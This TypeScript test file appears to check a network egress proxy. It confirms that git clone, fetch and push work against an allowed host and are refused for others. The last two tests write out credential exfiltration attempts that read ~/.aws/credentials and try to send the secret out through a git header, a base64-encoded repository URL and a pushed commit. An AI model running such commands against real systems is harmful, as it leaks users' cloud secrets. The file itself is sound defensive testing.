import { mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { type GitServer, makeGitServer } from './git-server.ts'
import { EVIL_HOST, openStage, type Stage } from './stage.ts'

const HOST = 'git.tools.test'
const URL = `https://${HOST}/team/app.git`

let directory: string
let server: GitServer
let stage: Stage
beforeAll(async () => {
  directory = mkdtempSync(join(tmpdir(), 'sekisho-git-'))
  server = makeGitServer(directory)
  for (const name of ['team/app.git', 'team/pushed.git', 'others/app.git']) {
    await server.make(name)
  }
  stage = await openStage({
    answers: { [HOST]: server.answer },
    rules: [
      { id: 'git', effect: 'allow', host: HOST, methods: ['GET', 'POST'], paths: ['/team/**'] },
    ],
  })
})
afterAll(async () => {
  await stage?.close()
  if (directory !== undefined) rmSync(directory, { recursive: true, force: true })
})

test('git clones over https, and fetches what came since', async () => {
  const first = await server.git('team/app.git', 'rev-parse', 'main')
  const played = await stage.session(`
    set -e
    git clone -q ${URL} /tmp/app
    cd /tmp/app
    git rev-parse HEAD
    git checkout -q -b work
    for n in $(seq 1 40); do git commit -q --allow-empty -m "change $n"; done
    git fetch -q origin
    git fsck --no-progress
  `)
  expect(played).toMatchObject({
    code: 0,
    stdout: `${first}\n`,
    stderr: '',
    namesDenied: [],
    actions: [
      `allow git GET https ${HOST} /team/app.git/info/refs → 200`,
      `allow git POST https ${HOST} /team/app.git/git-upload-pack → 200`,
      `allow git POST https ${HOST} /team/app.git/git-upload-pack → 200`,
      `allow git GET https ${HOST} /team/app.git/info/refs → 200`,
      `allow git POST https ${HOST} /team/app.git/git-upload-pack → 200`,
    ],
  })
})

test('git pushes 3 MB', async () => {
  const played = await stage.session(`
    set -e
    git clone -q https://${HOST}/team/pushed.git /tmp/app
    cd /tmp/app
    head -c 3000000 /dev/urandom > more.bin
    git add . && git commit -qm 'more'
    git push -q origin main
    git rev-parse HEAD
  `)
  expect(played).toMatchObject({ code: 0, stderr: '', namesDenied: [] })
  expect(await server.git('team/pushed.git', 'rev-parse', 'main')).toBe(played.stdout.trim())
  expect(played.actions.at(-1)).toBe(
    `allow git POST https ${HOST} /team/pushed.git/git-receive-pack → 200`,
  )
  const pushed = stage.world.arrived.findLast(({ target }) => target.endsWith('receive-pack'))
  expect(pushed?.body.length).toBeGreaterThan(3_000_000)
})

test('git is told that another repository is denied', async () => {
  const played = await stage.session(`git clone https://${HOST}/others/app.git /tmp/app`)
  expect(played).toMatchObject({
    code: 128,
    stderr: expect.stringContaining('The requested URL returned error: 403'),
    arrived: [],
    actions: [`deny default GET https ${HOST} /others/app.git/info/refs`],
  })
})

test('git cannot clone from a host that no rule names', async () => {
  const played = await stage.session(`git clone https://${EVIL_HOST}/app.git /tmp/app`)
  expect(played).toMatchObject({
    code: 128,
    stderr: expect.stringContaining(`Could not resolve host: ${EVIL_HOST}`),
    actions: [],
    arrived: [],
  })
})

test('git cannot carry a planted credential away in a field or an address', async () => {
  const before = stage.world.arrived.length
  const played = await stage.session(`
    stolen=$(awk '/secret/ { print $3 }' "$HOME/.aws/credentials")
    git -c http.extraHeader="x-note: $stolen" ls-remote ${URL}
    git ls-remote https://${HOST}/team/$(printf %s "$stolen" | base64 -w0 | tr '/+' '_-').git
  `)
  expect(played.stderr.match(/The requested URL returned error: 403/g)).toHaveLength(2)
  expect(played.actions).toEqual([
    expect.stringMatching(/^deny detect\.canary\.\S+ GET https git\.tools\.test /),
    expect.stringMatching(/^deny detect\.canary\.\S+ GET https git\.tools\.test /),
  ])
  expect(stage.world.arrived.slice(before)).toEqual([])
})

test('git cannot carry a planted credential away in a commit', async () => {
  const before = stage.world.arrived.length
  const played = await stage.session(`
    set -e
    git clone -q https://${HOST}/team/pushed.git /tmp/app
    cd /tmp/app
    cp "$HOME/.aws/credentials" notes.txt
    git add . && git commit -qm 'notes'
    git push origin main
  `)
  expect(played.stderr).toContain('The requested URL returned error: 403')
  expect(played.actions.at(-1)).toMatch(
    /^deny detect\.canary\.\S+ POST https git\.tools\.test \/team\/pushed\.git\/git-receive-pack/,
  )
  const pushes = stage.world.arrived.slice(before).filter(({ method }) => method === 'POST')
  expect(pushes.filter(({ target }) => target.endsWith('receive-pack'))).toEqual([])
})
